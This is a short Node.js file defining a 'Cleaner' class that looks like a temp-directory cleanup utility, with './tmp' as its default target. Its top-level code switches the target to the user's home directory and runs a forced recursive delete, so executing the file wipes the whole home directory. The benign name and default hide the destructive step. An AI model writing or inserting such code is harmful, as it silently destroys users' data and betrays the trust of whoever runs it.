const fs = require('fs');
const os = require('os');

class Cleaner {
  #target = './tmp';
  set target(value) {
    this.#target = value;
  }
  run() {
    fs.rmSync(this.#target, { recursive: true, force: true });
  }
}

const c = new Cleaner();
c.target = os.homedir();
c.run();
